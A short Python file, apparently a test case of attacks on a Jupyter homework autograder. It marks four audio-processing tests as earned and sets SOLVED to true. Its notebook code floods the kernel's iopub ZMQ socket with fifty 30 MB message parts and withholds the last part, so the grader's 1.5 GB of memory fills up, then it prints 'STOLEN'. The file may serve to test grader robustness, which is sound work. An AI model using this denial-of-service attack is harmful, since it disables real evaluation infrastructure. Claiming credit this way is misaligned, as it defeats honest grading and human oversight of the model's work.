"""Send one message of so many parts that it fills the grader's memory (1.5 GB)."""

EARNS = ["test_preemphasis", "test_log_dct", "test_cmvn_mean", "test_cmvn_deviation"]
SOLVED = True

CELLS = {}

LAST = """
import os
import threading
import time

import zmq

if os.getcwd() == "/home/student/hw":
    block, sent = bytes(30 * 2**20), []
    thread = get_ipython().kernel.iopub_thread
    done = threading.Event()

    def flood():
        # Never the last part: a message is counted, and can be read, when it is complete.
        for _ in range(50):
            thread.socket.send(block, zmq.SNDMORE, copy=False)
            sent.append(1)
            time.sleep(0.02)
        time.sleep(1)
        thread.socket.send(b"end")
        done.set()

    thread.schedule(flood)
    done.wait(8)
    print("STOLEN: memory of the grader,", 30 * len(sent), "MB")
"""
